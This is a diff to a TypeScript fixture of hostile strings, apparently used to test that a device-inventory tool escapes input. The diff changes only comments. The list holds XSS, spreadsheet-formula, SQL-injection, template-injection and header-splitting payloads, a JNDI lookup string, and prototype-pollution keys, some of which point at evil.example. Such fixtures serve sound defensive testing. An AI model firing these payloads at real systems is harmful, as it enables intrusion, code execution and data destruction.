@@ -1,6 +1,6 @@
-/** What a hostile device or host says of itself: each breaks out of something where it is put in as it is. */
+/** Texts of hostile devices and hosts. Each breaks out of some format if it is inserted unescaped. */
 export const hostileTexts: readonly string[] = [
-  // Markup and scripts.
+  // Markup and scripts
   '<img src=x onerror=alert(1)>',
   '<script>alert(1)</script>',
   '"><svg onload=alert(1)>',
@@ -19,7 +19,7 @@ export const hostileTexts: readonly string[] = [
   'data:text/html,<script>alert(1)</script>',
   '<base href=//evil.example/>',
   '<form action=//evil.example><input name=p></form>',
-  // Formulas of spreadsheets.
+  // Spreadsheet formulas
   "=cmd|' /C calc'!A0",
   '+1+cmd|x!A0',
   '-2+3+cmd|x!A0',
@@ -28,7 +28,7 @@ export const hostileTexts: readonly string[] = [
   '＝1+1',
   "'=1+1",
   '=HYPERLINK("http://evil.example";"x")',
-  // Ends of lines, cells, headers and records.
+  // Ends of lines, cells, headers and records
   'first\r\nsecond',
   'first\nsecond',
   'first\u2028second\u2029third\u0085fourth',
@@ -42,7 +42,7 @@ export const hostileTexts: readonly string[] = [
   'id: 1\ndata: forged\n\n',
   '{"forged":true}\n{"forged":true}',
   '# HELP forged x\nforged 1',
-  // Control characters and what moves text.
+  // Control characters and text direction
   'before\u0000after',
   '\u001b[2J\u001b]0;owned\u0007',
   '\u202Egnp.exe\u202C',
@@ -51,7 +51,7 @@ export const hostileTexts: readonly string[] = [
   'half \uD800 a pair',
   '\uDC00 other half',
   'Z\u0335\u0321\u034a\u0311a\u0335\u0321lgo',
-  // Other interpreters.
+  // Other interpreters
   "'; DROP TABLE peripherals; --",
   "' OR '1'='1",
   '$$; SELECT pg_sleep(10); $$',
@@ -63,12 +63,12 @@ export const hostileTexts: readonly string[] = [
   '%s%n%x %00 %0d%0aX: y',
   '{{7*7}}\u0024{7*7}#{7*7}<%= 7*7 %>',
   '\u0024{jndi:ldap://evil.example/x}',
-  // Names that objects have already.
+  // Names of built-in object members
   '__proto__',
   'constructor',
 ]
 
-/** What a field may be as long as, so that a text is tried and not its length. */
+/** Maximum lengths of fields, so that texts are not refused for their length. */
 export const fieldLimits = {
   hostname: 255,
   address: 64,
@@ -83,7 +83,7 @@ export const fieldLimits = {
   agentVersion: 64,
 } as const
 
-/** Fields besides: of network interfaces, devices, errors and states. */
+/** Other fields: of network interfaces, devices, errors and states. */
 export const otherFields = [
   'nic name',
   'nic address',
